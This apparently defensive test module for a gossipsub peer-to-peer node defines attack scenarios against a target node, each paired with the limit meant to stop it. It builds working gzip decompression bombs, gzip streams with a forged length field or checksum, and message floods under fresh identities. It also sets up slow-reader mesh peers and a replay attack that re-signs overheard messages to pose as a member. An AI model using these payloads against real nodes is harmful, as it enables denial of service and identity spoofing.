/** Attacks by what is said on the gossip topic. */
import { randomBytes } from 'node:crypto'
import { gzipSync } from 'node:zlib'
import { RPC } from '@libp2p/gossipsub/message'
import type { Stream } from '@libp2p/interface'
import type { Attack, Scenario } from '../scenario.ts'
import { dialTarget, onFrames, overAndOver, sendAll, together } from '../attackers.ts'
import {
  createAuthor,
  createSealing,
  gossipFrame,
  GOSSIP_PROTOCOL,
  gzippedBlock,
  openGossip,
  signMessage,
} from '../gossip.ts'
import { beMember } from '../membership.ts'
import { pause } from '../until-true.ts'
import { createMember, heartbeatOf, openVoice } from '../voice.ts'

const MB = 1024 * 1024
const MESSAGES = 'messages'

/** A block of about 38 MiB that gzip packs into about 160 KiB. */
function createBomb(): Uint8Array {
  const noise = randomBytes(100 * 1024).toString('base64')
  const padding = ' '.repeat(38 * MB)
  return gzipSync(
    `{"Index":0,"Timestamp":"","Storage":{"notes":{"a":{"Value":"${noise}"}${padding}}},"Hash":"","PrevHash":""}`,
  )
}

/** Blocks that inflate to about 38 MiB, each with something else in it that an entry has to be read or skipped for. */
const INFLATED_BLOCKS = {
  objects() {
    const field = `[${'{},'.repeat(21_000)}0]`
    const entry = `"k":{${Array.from({ length: 15 }, (_, at) => `"${at}":${field}`).join(',')}}`
    return gzippedNotes(Array.from({ length: 42 }, () => entry).join(','))
  },
  key: () =>
    gzippedNotes(`${'"k":{"Value":"1","Owner":"o","Version":1,"UpdatedAt":1},'.repeat(0.68 * MB)}"k":{}`),
  /** It says that half of it is all. */
  lies() {
    const gzip = gzippedNotes(' '.repeat(38 * MB))
    new DataView(gzip.buffer, gzip.byteOffset, gzip.byteLength).setUint32(gzip.length - 4, 19 * MB, true)
    return gzip
  },
  /** The checksum is wrong, which shows when all is inflated. */
  checksum() {
    const gzip = gzippedNotes(' '.repeat(38 * MB))
    gzip.fill(0, gzip.length - 8, gzip.length - 4)
    return gzip
  },
} as const

function gzippedNotes(entries: string): Uint8Array {
  return gzipSync(`{"Index":0,"Timestamp":"","Storage":{"notes":{${entries}}},"Hash":"","PrevHash":""}`)
}

/** Says one block under fresh authors from three connections, which come again under fresh keys. */
async function sayInflated(attack: Attack, block: Uint8Array): Promise<void> {
  await together(3, () =>
    overAndOver(attack, async () => {
      const voice = await openVoice(attack)
      for (let at = 0; at < 4 && (await voice.say(block)); at++) {
        attack.tally.count(MESSAGES)
        await pause(200, attack.signal)
      }
    }),
  )
}

const PACKED = 300

/** Sends frames full of heartbeats of members that nobody has heard of, until the stream ends. */
async function sendPacked({ target, signal, tally, config, peer }: Attack): Promise<void> {
  const sealing = createSealing(config)
  const stream = await openGossip(await dialTarget(await peer(), target, signal), [sealing.topic()], signal)
  while (!signal.aborted && stream.status === 'open') {
    const messages: RPC.Message[] = []
    for (let at = 0; at < PACKED; at++) {
      const { seed, signer } = createMember()
      const block = gzippedBlock([heartbeatOf(signer)])
      messages.push(await signMessage(seed, sealing.topic(), sealing.envelope(block)))
    }
    if (await sendAll(stream, gossipFrame({ messages }), signal)) tally.count(MESSAGES, messages.length)
    await pause(50, signal)
  }
}

/** Takes part in the topic's mesh at the victim; what the victim sends comes on the stream that `onStream` gets. */
async function joinMesh(attack: Attack, onStream: (stream: Stream) => void): Promise<Stream> {
  const { target, signal, config } = attack
  const member = await attack.peer()
  await member.handle(GOSSIP_PROTOCOL, onStream, { runOnLimitedConnection: true })
  const connection = await dialTarget(member, target, signal)
  await beMember(attack, { connection, self: member.peerId })
  const topic = createSealing(config).topic()
  const stream = await openGossip(connection, [topic], signal)
  const control = { graft: [{ topicID: topic }], ihave: [], iwant: [], prune: [], idontwant: [] }
  stream.send(gossipFrame({ control }))
  return stream
}

async function untilEnd({ signal }: Attack, stream: Stream): Promise<void> {
  while (!signal.aborted && stream.status === 'open') await pause(100, signal)
}

/** Takes part in the topic, and reads nothing of what it is sent, until the stream ends. */
async function readNothing(attack: Attack): Promise<void> {
  const stream = await joinMesh(attack, (inbound) => inbound.pause())
  attack.tally.count('streams unread')
  await untilEnd(attack, stream)
}

/** Says the same block under fresh authors, as fast as it is taken. */
async function sayAgain(attack: Attack, plaintext: Uint8Array): Promise<void> {
  const { signal, tally } = attack
  const voice = await openVoice(attack)
  while (await voice.say(plaintext)) {
    tally.count(MESSAGES)
    await pause(20, signal)
  }
}

/** A block full of entries that nobody signed, which make a message of about 320 KiB as gzip packs them little. */
function createLargeBlock(): Uint8Array {
  const entries = Array.from({ length: 2_000 }, (_, at) => {
    const noise = randomBytes(75).toString('base64')
    return `"k${at}":{"Value":"\\"${noise}\\""}`
  })
  return gzipSync(
    `{"Index":0,"Timestamp":"","Storage":{"notes":{${entries.join(',')}}},"Hash":"","PrevHash":""}`,
  )
}

/** Listens on the topic as who sits beside a member may: what it heard gets into the set until the stream ends. */
async function overhear(attack: Attack, heard: Set<RPC.Message>): Promise<void> {
  const stream = await joinMesh(attack, (inbound) =>
    onFrames(inbound, (frame) => RPC.decode(frame).messages.forEach((each) => heard.add(each))),
  )
  await untilEnd(attack, stream)
}

export const GOSSIP_ATTACKS: readonly Scenario[] = [
  {
    name: 'inflated-gossip',
    who: 'member',
    does: '30 messages under 30 fresh authors on one connection, each inflating to 38 MiB, over and over',
    boundedBy: '--gossip-max-memory, INFLATED_BYTES_RATE',
    legacy: {},
    aim: MESSAGES,
    async run(attack) {
      const { signal, tally } = attack
      const plaintext = createBomb()
      await overAndOver(attack, async () => {
        const voice = await openVoice(attack)
        while (voice.isOpen()) {
          for (let at = 0; at < 30 && (await voice.say(plaintext)); at++) tally.count(MESSAGES)
          await pause(1_000, signal)
        }
      })
    },
  },
  {
    name: 'inflated-objects',
    who: 'member',
    does: 'messages of 66 KiB with 38 MiB of objects in fields of entries that nobody knows, under fresh authors and peers from 3 connections',
    boundedBy: '--gossip-max-memory, MAX_JSON_FIELDS',
    legacy: {},
    aim: MESSAGES,
    run: (attack) => sayInflated(attack, INFLATED_BLOCKS.objects()),
  },
  {
    name: 'inflated-key',
    who: 'member',
    does: 'messages of 160 KiB with 38 MiB of entries of one key, under fresh authors and peers from 3 connections',
    boundedBy: '--gossip-max-memory, MAX_BLOCK_ENTRIES',
    legacy: {},
    aim: MESSAGES,
    run: (attack) => sayInflated(attack, INFLATED_BLOCKS.key()),
  },
  {
    name: 'inflated-checksum',
    who: 'member',
    does: 'messages of 60 KiB that inflate to 38 MiB and have a wrong checksum, under fresh authors and peers from 3 connections',
    boundedBy: '--gossip-max-memory',
    legacy: {},
    aim: MESSAGES,
    run: (attack) => sayInflated(attack, INFLATED_BLOCKS.checksum()),
  },
  {
    name: 'inflated-lies',
    who: 'member',
    does: 'messages of 60 KiB that say 19 MiB and inflate to 38, under fresh authors and peers from 3 connections',
    boundedBy: '--gossip-max-memory; inflating ends where more comes out than was said',
    legacy: {},
    aim: MESSAGES,
    run: (attack) => sayInflated(attack, INFLATED_BLOCKS.lies()),
  },
  {
    name: 'incompressible-gossip',
    who: 'member',
    does: '30 messages of 320 KiB under fresh authors, over and over: full of entries',
    boundedBy: '--gossip-max-memory, INFLATED_BYTES_RATE',
    legacy: {},
    aim: MESSAGES,
    async run(attack) {
      const plaintext = createLargeBlock()
      await overAndOver(attack, () => sayAgain(attack, plaintext))
    },
  },
  {
    name: 'long-messages',
    who: 'member',
    does: 'messages about as long as a network allows, 14 MB of hex each, under fresh authors from 3 connections',
    boundedBy: 'MAX_HELD_BYTES, --gossip-max-memory, the loop budget',
    legacy: {},
    aim: MESSAGES,
    async run(attack) {
      const plaintext = randomBytes(7 * MB - 1_024)
      await together(3, () => overAndOver(attack, () => sayAgain(attack, plaintext)))
    },
  },
  {
    name: 'unread-gossip',
    who: 'member',
    does: '24 members who read nothing of the topic, and messages of 320 KiB that are to be passed on to them',
    boundedBy: 'SLOW_GOSSIP_BYTES',
    legacy: {},
    aim: 'streams unread',
    async run(attack) {
      const plaintext = createLargeBlock()
      await Promise.all([
        together(24, () => overAndOver(attack, () => readNothing(attack), 1_000)),
        overAndOver(attack, () => sayAgain(attack, plaintext)),
      ])
    },
  },
  {
    name: 'fresh-authors',
    who: 'member',
    does: 'a fresh author for each small block with one good entry, as fast as the other side takes them',
    boundedBy: 'MAX_HEARD_MEMBERS, MAX_MEMBERS_REMEMBERED, --ledger-max-entries',
    legacy: {},
    aim: 'authors',
    async run(attack) {
      const { signal, tally } = attack
      await overAndOver(attack, async () => {
        const voice = await openVoice(attack)
        while (voice.isOpen()) {
          const { seed, signer } = createMember()
          if (!(await voice.say(gzippedBlock([heartbeatOf(signer)]), seed))) break
          tally.count('authors')
          if (tally.of('authors') % 20 === 0) await pause(1, signal)
        }
      })
    },
  },
  {
    name: 'packed-messages',
    who: 'member',
    does: '300 small messages under fresh authors in each frame, from 3 connections',
    boundedBy: 'the loop budget, SMALL_BLOCKS_RATE',
    legacy: {},
    aim: MESSAGES,
    run: (attack) => together(3, () => overAndOver(attack, () => sendPacked(attack))),
  },
  {
    name: 'replayed-author',
    who: 'stranger',
    does: 'signs a sealed message that it saw as its own, and asks to be treated as a member',
    boundedBy: 'an own entry of the author in the block; the proof of membership for nodes of our kind',
    legacy: {},
    aim: 'messages replayed',
    async run(attack) {
      const { target, signal, tally } = attack
      const { seed } = createAuthor()
      const stranger = await attack.peer({ seed })
      strangers.set(target.pid, stranger.peerId.toString())
      const overheard = new Set<RPC.Message>()
      await Promise.all([
        overAndOver(attack, () => overhear(attack, overheard)),
        overAndOver(attack, async () => {
          const connection = await dialTarget(stranger, target, signal)
          const stream = await openGossip(connection, [], signal)
          while (!signal.aborted && stream.status === 'open') {
            for (const message of overheard) {
              overheard.delete(message)
              const { topic, data } = message
              if (topic === undefined || data === undefined) continue
              const subscriptions = [{ subscribe: true, topic }]
              stream.send(gossipFrame({ subscriptions, messages: [await signMessage(seed, topic, data)] }))
              tally.count('messages replayed')
            }
            await pause(100, signal)
          }
        }),
      ])
    },
    async reached({ target }) {
      // a legacy node tells of nobody that it is a member
      if (target.kind === 'legacy') return undefined
      const peers = (await (await fetch(`${target.url}/api/peers`)).json()) as readonly {
        readonly ID: string
        readonly Member?: boolean
      }[]
      const own = strangers.get(target.pid)
      const shown = peers.find(({ ID, Member }) => ID === own && Member === true)
      return shown === undefined ? undefined : 'the stranger is shown as a member'
    },
  },
]

/** Who attacked whom, by the victim's pid. */
const strangers = new Map<number, string>()
